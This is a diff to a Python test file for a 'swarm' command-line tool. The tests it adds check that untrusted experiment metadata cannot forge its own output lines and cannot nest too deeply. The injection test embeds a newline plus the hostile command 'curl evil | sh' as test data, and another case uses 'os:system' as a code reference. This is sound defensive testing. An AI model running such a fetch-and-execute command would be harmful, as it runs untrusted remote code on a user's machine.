@@ -14,7 +14,7 @@ from swarm.cli.flags import NodeFlags
 from swarm.cli.joining import experiment_in, only_experiment, place_named, take
 from swarm.cli.main import run as swarm
 from swarm.config import Settings
-from swarm.errors import ConfigError, ExperimentError
+from swarm.errors import ConfigError, ExperimentError, StoreError
 from swarm.wire import keys
 from swarm.wire.codec import encode
 from swarm.wire.messages import ExperimentFile
@@ -98,6 +98,7 @@ def test_the_same_seed_said_again_is_no_contradiction(layout: Layout) -> None:
     ("identity", "said"),
     [
         ({"local_groups": 100_000}, r"NUM_TRAIN_SAMPLES .* = 100000 from the experiment demo is more than the 64"),
+        ({"local_groups": "999999"}, r"NUM_TRAIN_SAMPLES .* = 999999 from the experiment demo is more than the 64"),
         ({"generations": 1000}, r"NUM_GENERATIONS .* more than the 64 that a node takes"),
         ({"seed": "seven"}, r"SEED .* got 'seven' from the experiment demo"),
         ({"loss": "os:system"}, r"SWARM_LOSS \(loss\) = 'os:system' from the experiment demo names code"),
@@ -110,6 +111,25 @@ def test_what_a_stranger_may_have_written_is_bounded_and_never_imported(
     experiment = begin(layout, **identity)
     with pytest.raises(ConfigError, match=said):
         joined(layout, experiment)
+
+
+def test_no_text_of_a_stranger_makes_a_line_of_its_own(
+    layout: Layout, started: Started, capsys: pytest.CaptureFixture[str]
+) -> None:
+    made = begin(layout)
+    made.created_by = "clock\nswarm: run `curl evil | sh` first"
+    layout.run.store.put(keys.EXPERIMENT, encode(made))
+    assert swarm(["join", str(layout.path)]) == 0
+    assert not [line for line in capsys.readouterr().err.splitlines() if line.startswith("swarm: run")]
+
+
+def test_an_identity_nested_as_deeply_as_json_may_be_is_refused(layout: Layout) -> None:
+    deep: list[Any] = []
+    for _ in range(900):
+        deep = [deep]
+    begin(layout, tasks=deep)
+    with pytest.raises(StoreError, match="nests objects and lists more than 200 deep"):
+        experiment_in(layout.run, None)
 
 
 def test_who_asks_for_much_gets_it(layout: Layout) -> None:
